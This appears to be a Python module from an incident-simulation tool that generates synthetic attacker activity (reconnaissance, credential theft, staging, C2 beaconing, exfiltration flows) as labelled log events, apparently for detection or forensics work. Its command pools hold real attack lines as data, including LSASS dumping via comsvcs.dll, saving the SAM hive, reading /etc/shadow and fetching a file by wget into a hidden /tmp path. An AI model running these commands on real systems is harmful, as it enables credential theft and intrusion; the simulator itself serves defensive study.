"""What every incident scenario needs: attacker time-keeping, command lines, beacons, hops."""

from __future__ import annotations

import numpy as np

from breachtrace.simulate import events as ev
from breachtrace.simulate import names
from breachtrace.simulate.activity import Activity
from breachtrace.simulate.columns import draw_strings
from breachtrace.simulate.org import US, Org
from breachtrace.simulate.truth import Beacon, Hop, Plan, Route

RECON = (
    "cmd.exe /c whoami /all",
    "cmd.exe /c ipconfig /all",
    "cmd.exe /c systeminfo",
    'cmd.exe /c net group "domain admins" /domain',
    "cmd.exe /c nltest /dclist:{dom}",
    "cmd.exe /c tasklist /v",
    "cmd.exe /c netstat -ano",
    "cmd.exe /c net view",
    "cmd.exe /c quser",
    "cmd.exe /c arp -a",
    "cmd.exe /c net localgroup administrators",
)
CREDS = (
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid}"
    " C:\\Windows\\Temp\\{tag}.dmp full",
    "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\{tag}.hiv",
    "reg.exe save HKLM\\SECURITY C:\\ProgramData\\{tag}.dat",
    "cmd.exe /c vssadmin create shadow /for=C:",
)
STAGING = (
    "cmd.exe /c rar.exe a -hp{tag} C:\\ProgramData\\{tag}.rar C:\\ProgramData\\{tag2}",
    "powershell.exe -nop -w hidden -c Compress-Archive -Path C:\\ProgramData\\{tag2}"
    " -DestinationPath C:\\Windows\\Temp\\{tag}.zip",
    "cmd.exe /c 7z.exe a -p{tag} C:\\Users\\Public\\{tag}.7z C:\\Users\\Public\\{tag2}",
)
LINUX_CMDS = (
    "/bin/cat /etc/shadow",
    "/usr/bin/wget -q http://{ip}/{tag} -O /tmp/.{tag}",
    "/bin/chmod +x /tmp/.{tag}",
    "/bin/tar czf /tmp/.{tag2}.tgz /home /etc",
    "/bin/bash",
    "/usr/bin/find / -name id_rsa",
    "/usr/bin/crontab -l",
)
PROGRAMS = {
    "cmd.exe": "C:\\Windows\\System32\\cmd.exe",
    "rundll32.exe": "C:\\Windows\\System32\\rundll32.exe",
    "reg.exe": "C:\\Windows\\System32\\reg.exe",
    "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
}


class Attacker:
    """An attacker's clock, tools and bookkeeping, writing malicious events into a Plan."""

    def __init__(self, org: Org, stream: int, plan: Plan) -> None:
        self.org = org
        self.rng = np.random.default_rng([org.seed, stream])
        self.plan = plan
        self.act = Activity(org, self.rng, plan.events)
        self.s = org.strings.id

    def tag(self) -> str:
        """A short random name (files, folders, services the attacker creates)."""
        length = int(self.rng.integers(4, 9))
        return draw_strings(self.rng, 1, length, "abcdefghijklmnopqrstuvwxyz0123456789")[0]

    # --- time ------------------------------------------------------------------------------
    def at(self, day: int, site: int, hour_lo: float, hour_hi: float) -> int:
        """A µs time on local ``day`` at ``site`` between two local hours."""
        day = int(np.clip(day, 0, self.org.days - 1))
        local = self.org.local_midnight(day)[site]
        return int((local + self.rng.uniform(hour_lo, hour_hi) * 3600) * US)

    def clamp(self, ts: int) -> int:
        """Keep a time inside the simulated period."""
        lo = self.org.start * US + 60 * US
        hi = (self.org.start + self.org.days * 86_400) * US - 3600 * US
        return int(min(max(ts, lo), hi))

    # --- tools -----------------------------------------------------------------------------
    def command(self, pool: tuple[str, ...], **extra: str) -> str:
        text = names.pick(self.rng, pool)
        return text.format(
            dom=self.org.netbios.lower(),
            pid=int(self.rng.integers(500, 900)),
            tag=self.tag(),
            tag2=self.tag(),
            **extra,
        )

    def run(
        self, start: int, host: int, subject: int, logon: int, parent: str, commands: list[str]
    ) -> int:
        """4688 for each command, a few seconds to minutes apart; returns the last time."""
        n = len(commands)
        ts = start + np.cumsum(self.rng.integers(3, 90, n)) * US
        procs = [PROGRAMS.get(c.split(" ", 1)[0], PROGRAMS["cmd.exe"]) for c in commands]
        self.act.processes(
            ts,
            host,
            subject,
            logon,
            self.org.strings.ids(procs),
            self.s(parent),
            self.org.strings.ids(commands),
            mal=True,
        )
        return int(ts[-1])

    def implant_path(self) -> str:
        folder = names.pick(self.rng, names.IMPLANT_DIRS)
        return f"{folder}\\{self.tag()}.exe"

    # --- command and control ---------------------------------------------------------------
    def beacon(
        self,
        host: int,
        image: str,
        c2_ip: int,
        c2_name: str,
        start: int,
        end: int,
        interval: int,
        jitter: float,
        account: int,
        dns_server: int,
    ) -> Beacon:
        """Periodic check-ins with jitter: Sysmon 3 on the host and the flow on Zeek."""
        org, rng = self.org, self.rng
        n = max(1, int((end - start) / (interval * US)))
        gaps = interval * (1 + jitter * rng.uniform(-1, 1, n))
        ts = start + (np.cumsum(gaps) * US).astype(np.int64)
        ts = ts[ts < end]
        image_id, name_id = self.s(image), self.s(c2_name)
        ports = self.act.sysmon_connect(ts, host, account, image_id, c2_ip, 443, name_id, mal=True)
        self.act.flows(
            ts=ts + 1500,
            orig=org.hosts.ip[host],
            oport=ports,
            resp=c2_ip,
            rport=443,
            service=ev.SVC["ssl"],
            dur=rng.integers(200_000, 3 * US, len(ts)),
            obytes=rng.integers(300, 1500, len(ts)),
            rbytes=rng.integers(200, 4000, len(ts)),
            mal=True,
        )
        lookups = ts[:: max(1, int(6 * 3600 / interval))]
        self.act.dns(lookups - 40_000, org.hosts.ip[host], dns_server, name_id, c2_ip, mal=True)
        return Beacon(
            org.hosts.name[host],
            names.ip_text(c2_ip),
            443,
            c2_name,
            image,
            interval,
            round(jitter, 3),
            int(ts[0]),
            int(ts[-1]),
        )

    def exfiltrate(self, ts: int, host: int, c2_ip: int, size: int) -> None:
        self.act.flows(
            ts=np.array([ts]),
            orig=self.org.hosts.ip[host],
            resp=c2_ip,
            rport=443,
            service=ev.SVC["ssl"],
            dur=int(size / 2e6 * US) + US,
            obytes=size,
            rbytes=int(self.rng.integers(5000, 50_000)),
            mal=True,
        )

    # --- bookkeeping -----------------------------------------------------------------------
    def hop(self, route: Route, src: str, dst: str, ts: int, account: str, method: str) -> None:
        route.hops.append(Hop(src, dst, int(ts), account, method))
        for host in (src, dst):
            if host in self.org.hosts.name and host not in route.hosts:
                route.hosts.append(host)
        if account not in route.accounts:
            route.accounts.append(account)


def files_of_clients(
    org: Org, clients: np.ndarray, rng: np.random.Generator, per_client: tuple[int, int]
) -> list[int]:
    """A few files from each client's folder (at least one each)."""
    cat = org.catalog
    out: list[int] = []
    for c in clients:
        count = int(cat.counts[c])
        k = min(count, int(rng.integers(per_client[0], per_client[1] + 1)))
        picks = rng.choice(count, size=max(1, k), replace=False)
        out.extend(int(cat.starts[c] + p) for p in np.sort(picks))
    return out
